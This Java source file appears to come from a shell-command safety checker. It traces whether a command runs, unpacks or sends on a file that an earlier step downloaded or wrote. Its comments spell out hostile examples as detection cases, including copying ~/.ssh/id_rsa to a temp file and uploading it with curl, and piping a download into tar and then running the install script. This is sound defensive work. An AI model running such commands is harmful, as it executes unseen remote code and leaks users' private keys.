package dev.shellwarden.engine.fact;

import dev.shellwarden.grammar.Regex;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;

/**
 * Where the file a segment runs, loads, unpacks or reads came from within the same command: written
 * or downloaded by an earlier segment ({@code curl -o i.sh URL && sh i.sh}), unpacked from a
 * fetched archive ({@code curl URL | tar xz && ./t/install.sh}), saved under a name the server
 * chooses ({@code wget --content-disposition URL && sh *.sh}), or a cloned repository whose build
 * files a later tool executes ({@code git clone URL t && cd t && make}). The rules read these
 * through {@link Cmd#getExecutedFile}, {@link Cmd#readsFileWrittenBy}, {@link Cmd#runsFileWrittenBy},
 * {@link Cmd#unpacksFetchedBy}, {@link Cmd#runsFileUnpackedBy} and {@link Cmd#runsInsideCloneOf}.
 *
 * <p>WHY: each step alone looks harmless (a download into a file, running a local script); run
 * together they are a download run unseen, or a secret sent on through a file.
 *
 * <p>It reads only the two {@link Cmd}s and the {@link Ctx} it is given. INVARIANT: two steps'
 * paths are compared after both are resolved against every folder each step may run in; a
 * folder the text does not tell (a {@code cd} to a computed path, a download folder chosen by the
 * server) matches by name or matches outright, so doubt joins the steps (fail closed).
 */
final class FileProvenance {

    private FileProvenance() {
    }

    /** Launchers that start a program of the current folder by its bare name (their wrapper labels). */
    private static final Set<String> BARE_NAME_LAUNCHERS = Set.of("cmd", "Start-Process", "[Diagnostics.Process]::Start",
            "ShellExecute", "WScript.Shell", "ExecuteShellCommand");

    /** The script file {@code c} runs ({@code ./x.sh}, {@code sh x.sh}, {@code python x.py}, {@code source x}), or empty. */
    /**
     * Programs whose {@code run} subcommand runs a source file it is given, by the file's ending
     * (empty: the first word after {@code run} is the file): {@code go run x.go}, {@code deno run x.ts},
     * {@code bun run x.ts}.
     */
    private static final java.util.Map<String, String> SOURCE_RUNNERS = java.util.Map.of("go", ".go", "deno", "", "bun", "");

    /** Options of go, deno and bun run that take a separate value (the word after them is no source file). */
    private static final String RUN_VALUE_OPTIONS = "-C -exec -tags -ldflags -gcflags -asmflags -mod -modfile -overlay -p -pkgdir "
            + "-toolexec -o --config -c --import-map --lock --cert --location --seed --v8-flags --env-file --cwd --preload -r";

    /**
     * Programs that compile and run a source file given as a word, found by its ending, with no
     * subcommand: {@code java X.java} (single-file source launch), {@code swift x.swift},
     * {@code tcc -run x.c}, {@code kotlinc -script x.kts}, {@code cargo -Zscript x.rs}. WHY (rt34b):
     * a source downloaded in the same command ran without a question through these launchers.
     * Fail closed: a compile-only word list ({@code tcc x.c -o x}) reads as a run too.
     */
    private static final java.util.Map<String, String> SOURCE_LAUNCHERS = java.util.Map.of("java", ".java", "swift", ".swift",
            "tcc", ".c", "kotlinc", ".kts", "kotlin", ".kts", "cargo", ".rs", "rust-script", ".rs", "scala-cli", ".sc");

    static String executedFile(Cmd c) {
        String path = c.getPath();
        String name = c.getName();
        List<String> args = c.getArgs();
        // cmd.exe, Start-Process and the .NET and COM launchers (grammar's PsDotNet) find a program
        // of the current folder by its bare name (`cmd /c p.bat`, `Start-Process a.exe`); an
        // installer started so still runs the package it is given (`Start-Process msiexec.exe
        // -ArgumentList '/I x.msi'`)
        if (c.getWrappers().stream().anyMatch(BARE_NAME_LAUNCHERS::contains) && Regex.matches(path, "(?i)[^/\\\\:]+\\.(bat|cmd|exe|com|msi)")) {
            String installed = installedPackageFile(c);
            return installed.isEmpty() ? path : installed;
        }
        if (path.contains("\\") && !path.contains("/")) {
            return path.replace('\\', '/'); // PowerShell: .\tool.exe
        }
        if (path.contains("/") && !path.startsWith("/usr/") && !path.startsWith("/bin/")) {
            return path;
        }
        if (Regex.matches(name, "php[0-9.]*")) {
            // php's own options: -c is its ini file, not code; -l lints, -s highlights, -w strips: those do not run the file
            if (c.anyFlag("-r -l -s -w -i -v -m -h --syntax-check --run --info --version")) {
                return "";
            }
            String f = c.valueOf("-f --file");
            List<String> p = c.positionals("-c -d -z -S -t -B -R -F -E -f --file --php-ini --define --zend-extension");
            return !f.isEmpty() ? f : p.isEmpty() ? "" : p.get(0);
        }
        if (c.nameIs("powershell pwsh")) {
            // powershell -File x.ps1 (-f, -fi, -fil): the script file it runs
            for (int i = 0; i + 1 < args.size(); i++) {
                String a = args.get(i).toLowerCase(java.util.Locale.ROOT);
                if (a.length() >= 2 && (a.startsWith("-") || a.startsWith("/")) && "file".startsWith(a.substring(1))) {
                    return args.get(i + 1).replace('\\', '/');
                }
            }
            return "";
        }
        String source = SOURCE_RUNNERS.get(name);
        if (source != null && c.sub("run")) {
            // `go run /tmp/x.go`, `deno run x.ts`, `bun run x.ts`: the source file named after `run`
            // is compiled or loaded and run at once (go run's source: the first word in .go)
            List<String> p = c.positionals(RUN_VALUE_OPTIONS);
            for (String w : p.subList(Math.min(1, p.size()), p.size())) {
                if (source.isEmpty() || w.endsWith(source)) {
                    return w;
                }
            }
            return "";
        }
        String ending = SOURCE_LAUNCHERS.get(name);
        if (ending != null) {
            for (String a : args) {
                if (a.endsWith(ending) && !a.startsWith("-")) {
                    return a;
                }
            }
        }
        if (dev.shellwarden.grammar.PdbCommands.NAMES.contains(name) || name.equals("pudb3")) {
            // `pdb3 x.py`, `ipdb3 x.py`: the debugger runs the script it is given
            List<String> p = c.positionals("-c --command");
            return p.isEmpty() ? "" : p.get(0);
        }
        if (c.isShell() || c.isInterpreter() || name.equals("source") || name.equals(".")) {
            // bash's start-up file runs before its -c line or script (`bash --rcfile /tmp/x -ic ls`; rt38)
            String rc = c.isShell() ? c.valueOf("--rcfile --init-file") : "";
            if (!rc.isEmpty()) {
                return rc;
            }
            if (c.isInterpreter()) {
                // the interpreter's own option walk ({@link ProgramSource}): `python3 -X dev x.py`,
                // `perl -I lib x.pl`, `ruby -rdebug x.rb` and `python3 -m pdb x.py` run x
                return ProgramSource.interpreterScript(c);
            }
            if (c.anyFlag("-c -e -r -m") && !name.equals("source") && !name.equals(".")) {
                return "";
            }
            List<String> p = c.positionals("-o -O --rcfile --init-file");
            return p.isEmpty() ? "" : p.get(0);
        }
        if (c.named("emacs emacsclient")) {
            // emacs loads Lisp files it is given and runs them (`emacs --batch -l /tmp/x.el`; rt38)
            String f = c.valueOf("-l --load --script -scriptload");
            if (!f.isEmpty()) {
                return f;
            }
        }
        // a terminal multiplexer's start-up file runs commands (tmux's run-shell, screen's exec), a
        // notebook executed by nbconvert or `jupyter execute` runs its cells (rt38)
        if (name.equals("tmux") && !c.valueOf("-f").isEmpty()) {
            return c.valueOf("-f");
        }
        if (name.equals("screen") && !c.valueOf("-c").isEmpty()) {
            return c.valueOf("-c");
        }
        if (name.equals("jupyter") && (c.sub("execute") || c.sub("nbconvert") && c.anyFlag("--execute"))) {
            for (String a : c.getOperands()) {
                if (a.endsWith(".ipynb")) {
                    return a;
                }
            }
        }
        if (c.named("m4 gm4")) {
            // m4's input files are its program: syscmd and esyscmd run shell commands (rt38); the
            // letters of Wrappers' m4 reading take a value
            List<String> p = c.positionals("-D -U -I -d -l -o -H -t -F -R -L");
            return p.isEmpty() ? "" : p.get(0);
        }
        List<String> operands = c.getOperands();
        if (name.equals("chmod") && !operands.isEmpty() && operands.get(0).contains("x") && operands.size() > 1) {
            return "";
        }
        if (name.equals("java") || name.equals("javaw")) {
            int jar = args.indexOf("-jar");
            return jar >= 0 && jar + 1 < args.size() ? args.get(jar + 1) : "";
        }
        if (c.nameIs("Add-Type")) {
            // C# source or an assembly given by its file: compiled or loaded into the session, its
            // code runs at the first call of its types (`Add-Type -Path .\x.cs; [X]::Run()`)
            for (int i = 0; i + 1 < args.size(); i++) {
                String a = args.get(i).toLowerCase(java.util.Locale.ROOT);
                if (a.length() >= 3 && ("-path".startsWith(a) || "-literalpath".startsWith(a)) || a.equals("-lp") || a.equals("-pspath")) {
                    return args.get(i + 1).replace('\\', '/');
                }
            }
            return "";
        }
        if (c.nameIs("Import-Module ipmo")) {
            // a module given by its file runs its code as it loads (`Import-Module .\tool.psm1`)
            String file = c.valueOf("-Name");
            if (file.isEmpty()) {
                List<String> p = c.positionals("-Prefix -Function -Cmdlet -Variable -Alias -ArgumentList -Args -MinimumVersion -MaximumVersion -RequiredVersion -Scope");
                file = p.isEmpty() ? "" : p.get(0);
            }
            return Regex.matches(file, "(?i).*[\\\\/].*|.*\\.(ps1|psm1|psd1|dll)") ? file.replace('\\', '/') : "";
        }
        return installedPackageFile(c);
    }

    /** A package file by its name: archives, wheels, system packages, editor extensions, jars. */
    private static final java.util.regex.Pattern PACKAGE_FILE = java.util.regex.Pattern.compile(
            "(?i).*\\.(whl|tar\\.gz|tgz|tar\\.bz2|tar\\.xz|zip|egg|deb|rpm|apk|vsix|gem|jar|pkg|mpkg|msi)");

    /**
     * The local package file an installer installs ({@code pip install ./x.tar.gz},
     * {@code npm install x.tgz}, {@code code --install-extension x.vsix}, {@code dpkg -i x.deb}),
     * or empty. Installing is running: setup.py, npm's lifecycle scripts and a package's
     * maintainer scripts run at once, an extension's or a library's code at its first use, so a
     * package fetched in the same command meets the download-then-run rule like a script.
     */
    private static String installedPackageFile(Cmd c) {
        String name = c.getName();
        List<String> args = c.getArgs();
        boolean installs = c.named("pip pip3 pipx gem") && c.sub("install")
                || name.equals("uv") && c.sub("pip") && args.contains("install")
                || c.named("npm pnpm yarn bun") && c.sub("install i add")
                || c.named("code code-insiders codium cursor windsurf") && args.stream().anyMatch(a -> a.startsWith("--install-extension"))
                || name.equals("dpkg") && c.anyFlag("-i --install") || name.equals("rpm") && c.anyFlag("-i -U --install --upgrade")
                || c.named("apt apt-get") && c.sub("install")
                // macOS installer -pkg X.pkg -target /; Windows msiexec /i X.msi
                || name.equals("installer") && c.anyFlag("-pkg -package") || name.equals("msiexec") && c.argMatches("(?i)[/-](i|package|a)");
        if (!installs) {
            return "";
        }
        for (String a : args) {
            String w = a.startsWith("--install-extension=") ? a.substring("--install-extension=".length()) : a;
            String p = PathFacts.unquote(w);
            if (!p.startsWith("-") && !p.contains("://") && PACKAGE_FILE.matcher(p).matches()) {
                return w;
            }
        }
        return "";
    }

    /**
     * True when {@code c} names a file {@code writer} writes or downloads, or a folder holding
     * one (or a file in a folder it downloads): as an argument, an option's value ({@code --opt=FILE},
     * {@code -d@FILE}, {@code field=@FILE}, {@code -T FILE}) or its standard input. What it reads
     * or sends may be what {@code writer} put there, so a credential {@code writer} read, or code
     * it downloaded or decoded, travels on through the file ({@code cp ~/.ssh/id_rsa /tmp/k; curl
     * -F f=@/tmp/k URL}, {@code curl -o a URL && cp a b && sh b}). Paths the text does not tell
     * ({@link PathFacts#resolveKnown}) and devices are not followed.
     */
    static boolean readsFileWrittenBy(Cmd c, Cmd writer, Ctx ctx) {
        if (writesNoContent(writer)) {
            return false;
        }
        String home = ctx.home();
        List<String> written = new ArrayList<>();
        List<String> fetched = new ArrayList<>();
        for (String dir : pathBases(writer, ctx)) {
            written.addAll(knownFiles(withPosixForms(writer.getWriteTargets()), dir, home));
            // a download's folder (`git clone URL x`, `wget -P dir URL`) holds nothing but what it fetched
            fetched.addAll(knownFiles(writer.fetchedFiles(), dir, home));
        }
        if (written.isEmpty() && fetched.isEmpty()) {
            return false;
        }
        List<String> named = new ArrayList<>(c.getRedirectReads());
        // a CA setting's file is read by the client it is set for (`NODE_EXTRA_CA_CERTS=x.pem npm i`)
        named.addAll(TlsTrust.assignedCaFiles(c));
        for (String a : c.getArgs()) {
            named.add(a);
            String value = a.substring(a.lastIndexOf('=') + 1);
            named.add(value.startsWith("@") || value.startsWith("<") ? value.substring(1) : value);
            if (a.length() > 2 && a.charAt(0) == '-' && a.charAt(1) != '-') {
                String glued = a.substring(2); // -d@FILE, -T/tmp/FILE
                named.add(glued.startsWith("@") || glued.startsWith("<") ? glued.substring(1) : glued);
            }
        }
        List<String> absolute = new ArrayList<>();
        for (String n : withPosixForms(named)) {
            for (String dir : n.isEmpty() ? List.<String>of() : pathBases(c, ctx)) {
                String abs = PathFacts.resolveKnown(n, dir, home);
                if (abs != null) {
                    absolute.add(abs);
                }
            }
        }
        for (String abs : absolute) {
            String folder = abs.equals("/") ? "/" : abs + "/";
            for (String w : written) {
                // not a path below a written folder: `cp KEY .` lists `.` beside `./KEY`, and
                // everything in the project is below `.`
                if (abs.equals(w) || w.startsWith(folder)) {
                    return true;
                }
            }
            for (String f : fetched) {
                if (abs.equals(f) || f.startsWith(folder) || abs.startsWith(f + "/")) {
                    return true;
                }
            }
        }
        return false;
    }

    /**
     * {@code paths} with the POSIX form ({@link PathFacts#fromWindows}) of each one written the
     * Windows way: PowerShell's {@code .\k} and {@code $env:TEMP\k}, cmd.exe's {@code %TEMP%\k},
     * so that a file one shell writes and another reads is one file
     * ({@code cmd /c "… > %TEMP%\k.txt"; curl.exe -F "f=@$env:TEMP\k.txt" …}).
     */
    private static List<String> withPosixForms(List<String> paths) {
        List<String> out = new ArrayList<>(paths);
        for (String p : paths) {
            String plain = PathFacts.unquote(p);
            if (plain.indexOf('\\') >= 0 && plain.indexOf('/') < 0 || plain.startsWith("%") || Regex.matches(plain, "(?i)\\$env:.*")) {
                out.add(PathFacts.fromWindows(plain));
            }
        }
        return out;
    }

    /** The absolute paths of {@code paths} the text tells, without the root, devices and /proc. */
    private static List<String> knownFiles(List<String> paths, String cwd, String home) {
        List<String> out = new ArrayList<>();
        for (String p : paths) {
            String abs = PathFacts.resolveKnown(p, cwd, home);
            if (abs != null && !abs.equals("/") && !abs.startsWith("/dev/") && !abs.startsWith("/proc/")) {
                out.add(abs);
            }
        }
        return out;
    }

    /**
     * True for the tools whose write targets get no content from them (modes, owners, times,
     * empty folders): what a later step reads or runs from such a target is not theirs.
     */
    static boolean writesNoContent(Cmd c) {
        return c.named("chmod chown chgrp chattr setfacl touch mkdir");
    }

    /** A path as Windows names its file: lower case, trailing dots and blanks dropped ({@code T.PS1.} is t.ps1). */
    private static String windowsName(String path) {
        return path.toLowerCase(java.util.Locale.ROOT).replaceFirst("(?<=[^/])[. ]+$", "");
    }

    /**
     * The files a PowerShell run of the paths {@code run} may open: {@link #windowsName}, and for a
     * name without an extension the same name with {@code .ps1} or a PATHEXT one ({@code .\t} runs t.ps1).
     */
    private static Set<String> windowsRunNames(Set<String> run) {
        Set<String> out = new java.util.HashSet<>();
        for (String r : run) {
            String n = windowsName(r);
            out.add(n);
            if (n.indexOf('.', n.lastIndexOf('/') + 1) < 0) {
                for (String ext : List.of(".ps1", ".bat", ".cmd", ".exe", ".com")) {
                    out.add(n + ext);
                }
            }
        }
        return out;
    }

    /**
     * True when {@code c} runs every program in a folder ({@code run-parts DIR}) and {@code other}
     * writes or downloads a file into it ({@code curl -o /tmp/d/job URL && run-parts /tmp/d}; rt38).
     * run-parts' listing and testing options run nothing.
     */
    private static boolean runsFolderHolding(Cmd c, Cmd other, Ctx ctx) {
        if (!c.named("run-parts") || c.anyFlag("--test --list -V --version -h --help")) {
            return false;
        }
        List<String> p = c.positionals("-u --umask -a --arg --regex");
        if (p.isEmpty()) {
            return false;
        }
        Set<String> folders = new java.util.HashSet<>();
        for (String d : resolvedIn(c, p.get(0), ctx)) {
            folders.add(d.endsWith("/") ? d : d + "/");
        }
        List<String> written = new ArrayList<>(other.getWriteTargets());
        written.addAll(other.fetchedFiles());
        for (String w : written) {
            if (resolvedIn(other, w, ctx).stream().anyMatch(x -> folders.stream().anyMatch(x::startsWith))) {
                return true;
            }
        }
        return false;
    }

    /** True when {@code other} writes the file {@code c} then runs (or loads as code, {@link LoadedCode}). */
    static boolean runsFileWrittenBy(Cmd c, Cmd other, Ctx ctx) {
        if (writesNoContent(other)) {
            return false;
        }
        if (runsFolderHolding(c, other, ctx)) {
            return true;
        }
        String f = executedFile(c);
        if (!f.isEmpty()) {
            Set<String> run = resolvedIn(c, f, ctx);
            // Windows file names ignore case and trailing dots and blanks, and PowerShell finds `.\t` as
            // t.ps1 (or a PATHEXT program): `Set-Content T.PS1 …; .\t.ps1`, `.\t`, `.\t.ps1.` run the file written
            boolean windows = "powershell".equals(ctx.getShell());
            Set<String> runFolded = windows ? windowsRunNames(run) : run;
            for (String w : other.getWriteTargets()) {
                if (resolvedIn(other, w, ctx).stream().anyMatch(p -> runFolded.contains(windows ? windowsName(p) : p))) {
                    return true;
                }
            }
            if (runsByNameAfterUnknownCd(c, f, other) || runsUnnamedDownloadOf(c, f, other, ctx)) {
                return true;
            }
            for (String w : other.fetchedFiles()) {
                for (String fetched : resolvedIn(other, w, ctx)) {
                    // a cloned repository is a folder of fetched files: anything run from inside it came with it
                    if (run.contains(fetched) || other.isClonesRepository() && run.stream().anyMatch(r -> r.startsWith(fetched + "/"))) {
                        return true;
                    }
                }
            }
        }
        List<LoadedCode> loaded = LoadedCode.loadedBy(c);
        // an ssh configuration printed from the text is the walker's to read (SshConfigFile: its running
        // keys meet SW4017), one a machine tool generates holds no command; a download or any other writer's file is loaded unseen
        // (the walker reads no printed file named inside rsync's -e or mosh's --ssh line)
        if (loaded.isEmpty() || c.named("ssh autossh scp sftp sshfs") && (LoadedCode.generatesSshConfig(other) || TextTransforms.printsLiteral(other))
                || c.named("rsync mosh") && LoadedCode.generatesSshConfig(other)) {
            return false;
        }
        for (String abs : storedPaths(other, ctx)) {
            int slash = abs.lastIndexOf('/');
            String parent = slash <= 0 ? "/" : abs.substring(0, slash);
            String base = abs.substring(slash + 1);
            for (LoadedCode l : loaded) {
                Set<String> p = resolvedIn(c, l.path(), ctx);
                if (!l.folder() ? p.contains(abs) : p.contains(parent) && (l.names().isEmpty() || l.names().contains(base)
                        || l.names().contains(".") && base.startsWith(".") || l.names().contains("*.py") && base.endsWith(".py"))) {
                    return true;
                }
            }
        }
        return false;
    }

    /**
     * True when {@code c} is a chmod setting an execute bit ({@code +x}, {@code u+x}, {@code 755})
     * on a file {@code writer} wrote or downloaded ({@code curl -k URL | tee tool; chmod +x tool}):
     * the file is made a program in the same command that stored it, whatever its name.
     */
    static boolean makesExecutableFileWrittenBy(Cmd c, Cmd writer, Ctx ctx) {
        if (!c.getName().equals("chmod") || writesNoContent(writer) || !c.valueOf("--reference").isEmpty()) {
            return false;
        }
        List<String> modes = new ArrayList<>();
        for (String a : c.getArgs()) {
            if (a.equals("--")) {
                break;
            }
            if (Regex.matches(a, "-[rwxXstugoa,+=0-7].*")) {
                modes.add(a); // GNU chmod's dash-spelled mode (`chmod -w,u+x f`)
            }
        }
        List<String> operands = c.getOperands();
        List<String> files = operands;
        if (modes.isEmpty() && !operands.isEmpty()) {
            modes.add(operands.get(0));
            files = operands.subList(1, operands.size());
        }
        if (modes.stream().noneMatch(m -> TlsTrust.setsExecuteBit(PathFacts.unquote(m)))) {
            return false;
        }
        Set<String> stored = storedPaths(writer, ctx);
        for (String t : files) {
            if (resolvedIn(c, t, ctx).stream().anyMatch(stored::contains)) {
                return true;
            }
        }
        return false;
    }

    /**
     * The archives an extraction unpacks: tar's -f/--file values ({@link TarCommandLine}), {@code -}
     * for standard input (no file, or {@code f -}); unzip's archive operand; empty when the command
     * unpacks nothing.
     */
    private static List<String> unpackedArchives(Cmd c) {
        if (c.named("tar bsdtar gtar")) {
            return c.tar().unpacked();
        }
        if (c.getName().equals("unzip") && !c.getWriteTargets().isEmpty()) {
            List<String> p = c.positionals("-d -x -P");
            return p.isEmpty() ? List.of() : List.of(p.get(0));
        }
        return List.of();
    }

    /**
     * True when {@code c} unpacks what {@code fetch} downloaded: an archive read on standard
     * input from an earlier stage of the same pipeline ({@code curl URL | tar xz}), or an archive
     * file the fetch wrote ({@code curl -o a.tgz URL && tar xzf a.tgz}).
     */
    static boolean unpacksFetchedBy(Cmd c, Cmd fetch, Ctx ctx) {
        Set<String> stored = null; // read once, when an archive file is named
        for (String archive : unpackedArchives(c)) {
            if (archive.equals("-")) {
                if (fetch.getPipeParent() == c.getPipeParent() && fetch.getItem() == c.getItem() && fetch.getStage() < c.getStage()) {
                    return true;
                }
            } else if (archive.startsWith("<(")) {
                // the archive is a process substitution whose command is the fetch (`tar -xzf <(curl -fsSL URL)`);
                // under a wrapper (`nice tar -xzf <(…)`) the substitution is a child of the wrapper's
                // segment, which is the unpacker's launcher (its own id when nothing wraps it)
                if (fetch.getParent() == c.getLauncher() && "PROCESS_SUBSTITUTION".equals(fetch.getProvenance())) {
                    return true;
                }
            } else if (!archive.isEmpty()) {
                stored = stored == null ? storedPaths(fetch, ctx) : stored;
                if (resolvedIn(c, archive, ctx).stream().anyMatch(stored::contains)) {
                    return true;
                }
            }
        }
        return false;
    }

    /**
     * A local Go package {@code go run} or {@code go test} compiles by its folder ({@code .},
     * {@code ./cmd/x}), and whether the folders below count too ({@code ./...}).
     */
    private record GoPackage(String folder, boolean tree) {
    }

    /** Files the go tool compiles or reads the build from, beside the package's other files. */
    private static final String GO_BUILD_INPUT = "(?i).*(\\.(go|s|c|h|cc|cpp|cxx|hh|hpp|m|f|f90|syso|swig|swigcxx)|/go\\.(mod|work))";

    /**
     * The local packages a {@code go run} or {@code go test} names by folder (for run only its
     * first word: the ones after it are the program's), with {@code -C DIR} put in front; a word
     * ending in {@code .go} is a file ({@link #executedFile}), an import path is none of the folder's.
     */
    private static List<GoPackage> goPackages(Cmd c) {
        if (!c.getName().equals("go")) {
            return List.of();
        }
        List<String> p = c.positionals(RUN_VALUE_OPTIONS);
        boolean run = !p.isEmpty() && p.get(0).equals("run");
        if (p.isEmpty() || !run && !p.get(0).equals("test")) {
            return List.of();
        }
        String dir = PathFacts.unquote(c.valueOf("-C"));
        List<GoPackage> out = new ArrayList<>();
        for (String w : p.subList(1, run ? Math.min(2, p.size()) : p.size())) {
            String u = PathFacts.unquote(w);
            if (u.endsWith(".go") || !(u.equals(".") || u.equals("..") || u.startsWith("./") || u.startsWith("../") || u.startsWith("/"))) {
                continue;
            }
            boolean tree = u.equals("./...") || u.endsWith("/...");
            String folder = tree ? u.substring(0, Math.max(1, u.length() - 4)) : u;
            out.add(new GoPackage(dir.isEmpty() || folder.startsWith("/") ? folder : dir + "/" + folder, tree));
        }
        return out;
    }

    /**
     * True when {@code c} compiles and runs a local Go package ({@code go run .}, {@code go test
     * ./...}) whose folder holds a Go source {@code other} wrote or downloaded ({@code curl -o
     * main.go URL && go run .}): go compiles every .go file of the folder, so the download runs
     * as {@code go run main.go} would. WHY (left36): only a run naming the .go file was read.
     * DECIDED: read for downloads and decoders (SW4004, SW4047), not in {@link #runsFileWrittenBy}:
     * a test file the agent writes from a heredoc and then runs with {@code go test ./pkg} is everyday
     * work, where the file's text stands in the command.
     */
    static boolean compilesPackageWrittenBy(Cmd c, Cmd other, Ctx ctx) {
        List<GoPackage> packages = goPackages(c);
        if (packages.isEmpty() || writesNoContent(other)) {
            return false;
        }
        // the Go build inputs `other` writes or downloads, resolved once for every package
        List<String> inputs = new ArrayList<>();
        List<String> written = new ArrayList<>(other.getWriteTargets());
        written.addAll(other.fetchedFiles());
        for (String w : written) {
            for (String p : resolvedIn(other, w, ctx)) {
                if (Regex.matches(p, GO_BUILD_INPUT)) {
                    inputs.add(p);
                }
            }
        }
        for (GoPackage g : packages) {
            Set<String> folders = new java.util.LinkedHashSet<>();
            resolvedIn(c, g.folder(), ctx).forEach(f -> folders.add(f.replaceAll("(?<=.)/+$", "")));
            for (String p : inputs) {
                int slash = p.lastIndexOf('/');
                String parent = slash <= 0 ? "/" : p.substring(0, slash);
                if (folders.stream().anyMatch(f -> parent.equals(f) || g.tree() && p.startsWith(f.equals("/") ? "/" : f + "/"))) {
                    return true;
                }
            }
            // a download named by the server into the folder (`curl -O URL/m.go && go run .`)
            if (runsUnnamedDownloadOf(c, g.folder() + "/main.go", other, ctx)) {
                return true;
            }
        }
        return false;
    }

    /**
     * True when {@code c} runs a file from inside a folder {@code unpack} extracted an archive
     * into ({@code tar xz -C /tmp/t && /tmp/t/install.sh}, {@code unzip t.zip && ./t/setup.sh}):
     * like a cloned repository's, anything run from there may have come with the archive.
     */
    static boolean runsFileUnpackedBy(Cmd c, Cmd unpack, Ctx ctx) {
        String f = executedFile(c);
        Set<String> run = new java.util.LinkedHashSet<>(f.isEmpty() ? Set.of() : resolvedIn(c, f, ctx));
        // what it loads as code too: a preload, a template's hooks folder (`tar -xzf t.tgz -C /tmp/t &&
        // git clone --template=/tmp/t URL`; left40), each read as a path below the folder; a folder
        // entry that picks only some names (the module path's *.py) is left out: an archive's names are not told
        for (LoadedCode l : LoadedCode.loadedBy(c)) {
            if (!l.names().isEmpty()) {
                continue;
            }
            for (String p : resolvedIn(c, l.path(), ctx)) {
                run.add(l.folder() ? PathFacts.asFolder(p) + "*" : p);
            }
        }
        if (run.isEmpty()) {
            return false;
        }
        for (String w : unpack.getWriteTargets()) {
            for (String folder : w.endsWith("/") ? resolvedIn(unpack, w, ctx) : Set.<String>of()) {
                if (!folder.equals("/") && run.stream().anyMatch(r -> r.startsWith(folder + "/"))) {
                    return true;
                }
            }
        }
        return false;
    }

    /**
     * A folder a download lands in under a name the text does not tell, and whether the download
     * may also make folders below it ({@code wget -r}).
     */
    private record UnnamedDownload(String folder, boolean tree) {
    }

    /**
     * The folders {@code c} downloads into under names the server, a redirect or the release
     * chooses: curl's {@code -OJ} (the Content-Disposition header names the file), wget's
     * {@code --content-disposition}, {@code --trust-server-names} (the last redirect's name),
     * {@code -i FILE} and {@code -r}/{@code -m} (folders below too), aria2c without {@code -o}
     * (the header's name or the URL's), {@code gh release download} without {@code -O} (the
     * assets' names). A file later run from such a folder may be the download
     * ({@link #runsFileWrittenBy}), whatever its name.
     */
    private static List<UnnamedDownload> unnamedDownloads(Cmd c) {
        String folder;
        boolean tree = false;
        switch (c.getName()) {
            case "curl" -> {
                if (!c.savesUnderRemoteName() || !(c.anyFlag("-J --remote-header-name") || c.argMatches("-[A-Za-z]*J[A-Za-z]*"))) {
                    return List.of();
                }
                folder = c.valueOf("--output-dir");
            }
            case "wget" -> {
                tree = c.anyFlag("-r --recursive -m --mirror");
                String o = c.valueOf("-O --output-document");
                if (!o.isEmpty() || !tree && !c.anyFlag("--content-disposition --trust-server-names -i --input-file")
                        && !c.argStartsWith("--input-file=")) {
                    return List.of();
                }
                folder = c.valueOf("-P --directory-prefix");
            }
            case "aria2c" -> {
                if (!c.valueOf("-o --out").isEmpty()) {
                    return List.of();
                }
                folder = c.valueOf("-d --dir");
            }
            case "gh" -> {
                if (!c.sub("release") || !c.anyArg("download") || !c.valueOf("-O --output").isEmpty()) {
                    return List.of();
                }
                folder = c.valueOf("-D --dir");
            }
            default -> {
                return List.of();
            }
        }
        return List.of(new UnnamedDownload(folder.isEmpty() ? "." : folder, tree));
    }

    /**
     * True when the file {@code c} runs may be one {@code other} downloaded under a name the
     * text does not tell ({@link #unnamedDownloads}): it lies in that folder (or below it, for a
     * recursive download), the folder is not told, or a {@code cd} the text does not tell came
     * before a relative file (fail closed, as {@link #runsByNameAfterUnknownCd}).
     */
    private static boolean runsUnnamedDownloadOf(Cmd c, String file, Cmd other, Ctx ctx) {
        List<UnnamedDownload> downloads = unnamedDownloads(other);
        if (downloads.isEmpty()) {
            return false;
        }
        String f = PathFacts.unquote(file).replace('\\', '/');
        if (c.cwds().contains(WorkingDirs.UNKNOWN) && !PathFacts.isAnchored(f) && !PathFacts.isWindowsAbsolute(f)) {
            return true;
        }
        Set<String> run = resolvedIn(c, file, ctx);
        for (UnnamedDownload d : downloads) {
            for (String dir : pathBases(other, ctx)) {
                String known = PathFacts.resolveKnown(d.folder(), dir, ctx.home());
                if (known == null) {
                    return true; // a folder the text does not tell may be any
                }
                String folder = known.replaceAll("(?<=.)/+$", "");
                for (String r : run) {
                    int slash = r.lastIndexOf('/');
                    String parent = slash <= 0 ? "/" : r.substring(0, slash);
                    if (parent.equals(folder) || d.tree() && r.startsWith(folder.equals("/") ? "/" : folder + "/")) {
                        return true;
                    }
                }
            }
        }
        return false;
    }

    /**
     * True when {@code c} runs inside the folder {@code clone} cloned earlier in the same command
     * ({@code git clone URL tool && cd tool && make}): the build files its tool executes (Makefile,
     * package scripts, setup.py) came with the clone. The tool works where a {@code cd} led it, or
     * in the folder its own option names ({@code make -C tool}, {@code npm --prefix tool install},
     * {@code yarn --cwd tool}, {@code pnpm -C tool}, {@code pip install ./tool}).
     */
    static boolean runsInsideCloneOf(Cmd c, Cmd clone, Ctx ctx) {
        if (!clone.isClonesRepository()) {
            return false;
        }
        List<String> named = buildToolFolders(c);
        if (c.cwds().isEmpty() && named.isEmpty()) {
            return false;
        }
        Set<String> mine = new java.util.LinkedHashSet<>(c.cwds().isEmpty() ? List.of() : pathBases(c, ctx));
        for (String n : named) {
            mine.addAll(resolvedIn(c, n, ctx));
        }
        for (String f : clone.fetchedFiles()) {
            for (String folder : resolvedIn(clone, f, ctx)) {
                for (String d : mine) {
                    if (!folder.equals("/") && (d.equals(folder) || d.startsWith(folder + "/"))) {
                        return true;
                    }
                }
            }
        }
        return false;
    }

    /** The folders a build tool is told to work in by its own options or operands (see {@link #runsInsideCloneOf}). */
    private static List<String> buildToolFolders(Cmd c) {
        List<String> out = new ArrayList<>();
        String opt = switch (c.getName()) {
            case "make", "gmake" -> c.valueOf("-C --directory");
            case "npm" -> c.valueOf("--prefix -C");
            case "pnpm" -> c.valueOf("-C --dir");
            case "yarn" -> c.valueOf("--cwd");
            default -> "";
        };
        if (!opt.isEmpty()) {
            out.add(opt);
        }
        if (c.named("pip pip3") && c.sub("install")) {
            // pip install ./tool, pip install -e tool: a local folder's setup code runs
            for (String p : c.positionals("-r --requirement -c --constraint -t --target --prefix --root -i --index-url"
                    + " --extra-index-url -f --find-links --src --upgrade-strategy --python-version --platform --implementation --abi")) {
                String u = PathFacts.unquote(p);
                if (!u.equals("install") && (u.startsWith(".") || u.startsWith("/") || u.contains("/"))) {
                    out.add(p);
                }
            }
            String e = c.valueOf("-e --editable");
            if (!e.isEmpty()) {
